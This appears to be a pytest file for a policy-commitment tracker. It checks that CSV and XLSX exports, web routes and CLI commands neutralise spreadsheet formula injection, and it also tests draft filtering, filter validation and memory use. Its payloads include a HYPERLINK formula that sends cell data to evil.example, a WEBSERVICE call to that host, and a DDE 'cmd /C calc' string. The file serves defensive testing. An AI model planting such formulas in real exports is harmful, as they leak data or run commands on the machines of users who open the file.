"""No cell of a file is run by a spreadsheet, whatever stands in the ledger and by whatever way it leaves."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from following import ANALYST, PAGE, commitment, obstacle, record
from tracker import audit, db, export, filters, records, reliability
from tracker.cli import tracker
from tracker.codebook import CodedField, EvidenceReports, Execution
from tracker.findings import Search, Source
from tracker.models import Organisation, PolicyDocument, Term
from tracker.records import Record

#: What spreadsheets take for the beginning of a formula, in ASCII and in full width.
LEADING = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"看")'


def cells_of(content: bytes) -> list[str]:
    """Every cell of a CSV file."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def written(rows: list[Record], form: str) -> bytes:
    out = io.BytesIO()
    assert export.write(iter(rows), form, out) == len(rows)
    return out.getvalue()


@pytest.fixture
def row(desk: Session) -> Record:
    """One record as it leaves, with a value in every field."""
    record(desk, "CZ-2020-01.1", Execution.IN_PROGRESS)
    return next(iter(records.records(desk, filters.CommitmentFilter(code="CZ-2020-01.1"))))


@pytest.mark.parametrize("leading", LEADING, ids=ascii)
def test_E1_no_text_of_any_column_is_a_formula(row: Record, leading: str) -> None:
    payload = f"{leading}1+1|cmd' /C calc'!A0"
    hostile = [{**row, name: payload} for name in row]
    found = cells_of(written(hostile, "csv"))
    assert sum(payload in cell for cell in found) == len(row)
    assert [cell for cell in found if cell[:1] in LEADING] == []
    assert all("'" + payload in found for _ in row)

    book = openpyxl.load_workbook(io.BytesIO(written(hostile, "xlsx")))
    kept = [cell for line in book.active.iter_rows(min_row=2) for cell in line]
    assert {cell.data_type for cell in kept} <= {"s", "n", "b", "inlineStr"}
    texts = [str(cell.value) for cell in kept if cell.data_type == "s"]
    assert sum("cmd' /C calc" in text for text in texts) == len(row)


def test_E1_numbers_stay_numbers(row: Record) -> None:
    given = {"less": -5, "part": -0.25, "more": 7, "whole": True, "nothing": None}
    found = cells_of(written([{**row, **given}], "csv"))
    assert found[-5:] == ["-5", "-0.25", "7", "True", ""]
    book = openpyxl.load_workbook(io.BytesIO(written([{**row, **given}], "xlsx")))
    line = [cell.value for cell in next(iter(book.active.iter_rows(min_row=2)))]
    assert [value for value in line if value in {-5, -0.25, 7}] == [-5, -0.25, 7, True][:3]


@pytest.fixture
def poisoned(ledger: Engine) -> None:
    """The payload in every text that somebody can type, and an item to code again."""
    with db.writing(ledger, actor=ANALYST) as session:
        source = Source(PAGE, reports=EvidenceReports.DELIVERY, title=PAYLOAD, publisher=PAYLOAD, excerpt=PAYLOAD)
        said = dict.fromkeys(("summary", "summary_en", "progress", "problems", "next_steps"), PAYLOAD)
        record(
            session,
            "CZ-2020-01.1",
            Execution.IN_PROGRESS,
            evidence=(source,),
            searches=(Search(PAYLOAD, PAYLOAD),),
            **said,
        )
        row = commitment(session, "CZ-2020-01.1")
        for name in (
            "title_zh",
            "title_en",
            "tense_note_zh",
            "tense_note_en",
            "completion_zh",
            "completion_en",
            "note_zh",
            "note_en",
            "beneficiaries_zh",
        ):
            setattr(row, name, PAYLOAD)
        obstacle(session, "CZ-2020-01.1", title=PAYLOAD, remedy=PAYLOAD)
        for policy in session.scalars(select(PolicyDocument)):
            policy.title, policy.contact = f"{PAYLOAD}{policy.id}", PAYLOAD
        session.scalars(select(Organisation).limit(1)).one().name_zh = PAYLOAD
        session.scalars(select(Term).limit(1)).one().name_zh = PAYLOAD
        reliability.draw(
            session, PAYLOAD, size=3, fields={CodedField.TENSE}, seed=2, drawn_by=audit.signer(session, ANALYST)
        )


@pytest.mark.usefixtures("poisoned")
def test_E1_no_page_lets_a_formula_out(somebody: Callable[[str], FlaskClient]) -> None:
    admin = somebody("admin")
    ways = [
        "/commitments?per=all&format=csv",
        "/cities/chenzhou?per=all&format=csv",
        "/documents/chenzhou-2020?format=csv",
        "/commitments/CZ-2020-01.1?format=csv",
    ]
    ways += ["/desk/auditevent/?format=csv", "/desk/questions/duban?city=431000&format=csv"]
    ways += [
        f"/desk/questions/{name}?format=csv"
        for name in ("unverified", "claims", "stale", "policies", "awaiting-review", "stated-found")
    ]
    let_out = 0
    for way in ways:
        answer = admin.get(way)
        assert (way, answer.status_code) == (way, 200)
        found = cells_of(answer.data)
        assert (way, [cell for cell in found if cell[:1] in LEADING]) == (way, [])
        let_out += sum(PAYLOAD in cell for cell in found)
    assert let_out > 20


@pytest.mark.usefixtures("poisoned")
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_E1_no_command_lets_a_formula_out(ledger_url: str, tmp_path: Path, form: str) -> None:
    let_out = 0
    for words in (
        ["list", "--format"],
        ["ask", "claims", "--format"],
        ["policies", "--format"],
        ["obstacle", "list", "--format"],
        ["summary", "--format"],
    ):
        ran = CliRunner().invoke(tracker, ["--database", ledger_url, *words, form])
        assert ran.exit_code == 0, words
        let_out += checked(ran.stdout_bytes, form)
    files = [["export", "--format", form], ["duban", "--city", "郴州"]]
    if form == "csv":
        files += [["coding", "sheet", PAYLOAD, "--analyst", "第二人"]]
    for number, words in enumerate(files):
        out = tmp_path / f"{number}.{form}"
        ran = CliRunner().invoke(tracker, ["--database", ledger_url, *words, "--out", str(out)])
        assert ran.exit_code == 0, (words, ran.output, ran.exception)
        let_out += checked(out.read_bytes(), form)
    assert let_out > 10


def checked(content: bytes, form: str) -> int:
    """How many cells hold the payload; none of them as a formula."""
    if form == "csv":
        found = cells_of(content)
        assert [cell for cell in found if cell[:1] in LEADING] == []
        return sum(PAYLOAD in cell for cell in found)
    kept = [cell for line in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in line]
    assert "f" not in {cell.data_type for cell in kept}
    return sum(PAYLOAD in str(cell.value) for cell in kept)


@pytest.mark.release
def test_E2_LibreOffice_computes_no_cell(
    row: Record, tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("LibreOffice is not installed: apt-get install libreoffice-calc")
    payloads = [f"{leading}1+1" for leading in LEADING if leading != "\0"] + [
        PAYLOAD,
        '=WEBSERVICE("http://evil.example")',
        "=1+1\n=2",
    ]
    rows = [{**row, "title_zh": payload, "number": -5} for payload in payloads]
    for form in ("csv", "xlsx"):
        (tmp_path / f"hostile.{form}").write_bytes(written(rows, form))
        command = [
            office,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "ods:calc8",
        ]
        for step in ([*command, "--outdir", str(tmp_path / form), str(tmp_path / f"hostile.{form}")],):
            subprocess.run(
                step, check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)}
            )
        content = shutil.unpack_archive(tmp_path / form / "hostile.ods", tmp_path / f"{form}-ods", "zip")
        content = (tmp_path / f"{form}-ods" / "content.xml").read_text(encoding="utf-8")
        # LibreOffice writes true and false so; no other cell is computed.
        assert set(re.findall(r'table:formula="([^"]*)"', content)) <= {"of:=TRUE()", "of:=FALSE()"}
        assert content.count("1+1") >= len(LEADING) - 1
        assert 'office:value="-5"' in content
        record_property(f"E2 payload cells, {form}", len(rows))


# --- E4


@pytest.mark.parametrize("role", ["", "reader", "analyst", "reviewer", "admin"])
def test_E4_an_export_holds_what_the_list_shows_and_no_draft(
    app: Flask, ledger: Engine, somebody: Callable[[str], FlaskClient], role: str
) -> None:
    with db.writing(ledger, actor=ANALYST) as session:
        states = type(commitment(session, "CZ-2020-01.1").publication_state)
        commitment(session, "CZ-2020-01.1").publication_state = states("draft")
        commitment(session, "CZ-2020-01.2").publication_state = states("withdrawn")
    client = somebody(role) if role else app.test_client()
    for question in ("", "&kind=pro_business_measure", "&search=园区", "&status=not_reviewed"):
        shown = client.get(f"/cities/chenzhou?per=all{question}").text
        rows = list(
            csv.DictReader(
                io.StringIO(
                    client.get(
                        f"/cities/chenzhou?per=all&format=csv&unpublished=1&publication_state=draft{question}"
                    ).data.decode("utf-8-sig")
                )
            )
        )
        codes = [row["code"] for row in rows]
        assert codes == [
            record["code"]
            for record in client.get(f"/cities/chenzhou?per=all&format=json{question}").get_json()["rows"]
        ]
        assert codes
        assert not {"CZ-2020-01.1", "CZ-2020-01.2"} & set(codes)
        assert all(f"/commitments/{code}" in shown for code in codes)


@pytest.mark.parametrize(
    "tampered",
    [
        "kind=x",
        "status=%27",
        "as_of=x",
        "sort=%00",
        "recorded_by=0000-00-00",
    ],
)
def test_E4_an_export_whose_filter_is_tampered_with_is_refused(app: Flask, tampered: str) -> None:
    assert app.test_client().get(f"/commitments?format=csv&{tampered}").status_code == 400


# --- E5


@pytest.mark.nightly
@pytest.mark.parametrize("form", ["csv", "jsonl", "xlsx"])
def test_E5_a_hundred_thousand_rows_leave_in_little_memory(
    many: str, tmp_path: Path, form: str, record_property: Callable[[str, object], None]
) -> None:
    few = largest(["list", "--limit", "1", "--format", form], many, tmp_path / "few")
    all_ = largest(["list", "--format", form], many, tmp_path / "all")
    grown = (all_ - few) / 1024
    record_property(f"E5 {form}", f"{grown:.0f} MB more, {(tmp_path / 'all').stat().st_size / 2**20:.0f} MB of file")
    assert grown <= 60


@pytest.mark.nightly
@pytest.mark.parametrize("form", ["datapackage", "sqlite"])
def test_E5_every_table_of_a_hundred_thousand_commitments_leaves_in_little_memory(
    many: str, tmp_path: Path, form: str, record_property: Callable[[str, object], None]
) -> None:
    asked = ["export", "--format", form, "--out"]
    few = largest([*asked, str(tmp_path / "few"), "--search", "不见于任何原文的词"], many, tmp_path / "said")
    grown = (largest([*asked, str(tmp_path / "all")], many, tmp_path / "said") - few) / 1024
    record_property(f"E5 {form}", f"{grown:.0f} MB more")
    assert grown <= 60


@pytest.fixture(scope="module")
def many(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A generated ledger of a hundred thousand commitments."""
    url = f"sqlite:///{tmp_path_factory.mktemp('many') / 'many.db'}"
    generate = Path(__file__).parents[1] / "benchmarks" / "generate.py"
    subprocess.run([sys.executable, str(generate), "100000", url, "--each", "1"], check=True, capture_output=True)
    return url


def largest(words: list[str], url: str, out: Path) -> int:
    """Largest resident size of a command, in kilobytes."""
    code = "import sys; from tracker.cli import main; main()"
    with out.open("wb") as file:
        command = subprocess.Popen([sys.executable, "-c", code, "--database", url, *words], stdout=file)
        _, status, used = os.wait4(command.pid, 0)
        command.returncode = os.waitstatus_to_exitcode(status)
    assert command.returncode == 0
    return int(used.ru_maxrss)
